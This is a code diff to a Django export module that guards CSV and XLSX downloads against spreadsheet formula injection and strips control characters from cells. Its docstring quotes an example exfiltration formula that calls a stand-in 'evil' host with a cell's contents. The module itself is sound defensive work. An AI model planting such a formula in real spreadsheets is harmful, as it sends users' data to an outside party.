@@ -5,11 +5,16 @@ Excel and LibreOffice: a client could name their business
 ``=HYPERLINK("http://evil/?"&A1)`` and have the consultant's spreadsheet run
 it. CSV cells get a leading apostrophe (OWASP's advice); XLSX cells are
 written as plain strings, which spreadsheets never evaluate.
+
+Control characters other than tab and line breaks are dropped from every
+cell, as the PDF does: text pasted from Word can hold a vertical tab, which
+XLSX cannot store at all (openpyxl refuses the whole file).
 """
 
 from __future__ import annotations
 
 import io
+import re
 
 import pandas as pd
 from django.http import HttpResponse
@@ -20,22 +25,32 @@ FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
 CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
 XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 MAX_COLUMN_WIDTH = 60
+CONTROL_CHARACTERS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
+
+
+def plain_text(value):
+    """A text cell without control characters (tab and line breaks stay)."""
+    if isinstance(value, str):
+        return CONTROL_CHARACTERS.sub("", value)
+    return value
 
 
 def guard_cell(value):
-    """Neutralize a text cell a spreadsheet would read as a formula."""
+    """A text cell without control characters, neutralized if a spreadsheet would run it."""
+    value = plain_text(value)
     if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
         return "'" + value
     return value
 
 
-def guard_frame(frame: pd.DataFrame) -> pd.DataFrame:
-    guarded = frame.copy()
-    for column in guarded.columns:
-        if guarded[column].dtype == object or pd.api.types.is_string_dtype(guarded[column]):
-            guarded[column] = guarded[column].map(guard_cell)
-    guarded.columns = [guard_cell(str(c)) for c in guarded.columns]
-    return guarded
+def map_text_cells(frame: pd.DataFrame, clean) -> pd.DataFrame:
+    """A copy of the frame with ``clean`` applied to every text cell and header."""
+    cleaned = frame.copy()
+    for column in cleaned.columns:
+        if cleaned[column].dtype == object or pd.api.types.is_string_dtype(cleaned[column]):
+            cleaned[column] = cleaned[column].map(clean)
+    cleaned.columns = [clean(str(c)) for c in cleaned.columns]
+    return cleaned
 
 
 def _download(content: bytes, *, content_type: str, filename: str) -> HttpResponse:
@@ -48,13 +63,14 @@ def _download(content: bytes, *, content_type: str, filename: str) -> HttpRespon
 
 def csv_response(frame: pd.DataFrame, *, filename: str) -> HttpResponse:
     # UTF-8 with a byte-order mark, so Excel opens accented names correctly.
-    text = guard_frame(frame).to_csv(index=False, date_format="%Y-%m-%d %H:%M")
+    text = map_text_cells(frame, guard_cell).to_csv(index=False, date_format="%Y-%m-%d %H:%M")
     return _download(
         text.encode("utf-8-sig"), content_type=CSV_CONTENT_TYPE, filename=f"{filename}.csv"
     )
 
 
 def xlsx_response(frame: pd.DataFrame, *, filename: str, sheet: str) -> HttpResponse:
+    frame = map_text_cells(frame, plain_text)
     buffer = io.BytesIO()
     with pd.ExcelWriter(buffer, engine="openpyxl") as writer:
         frame.to_excel(writer, index=False, sheet_name=sheet)
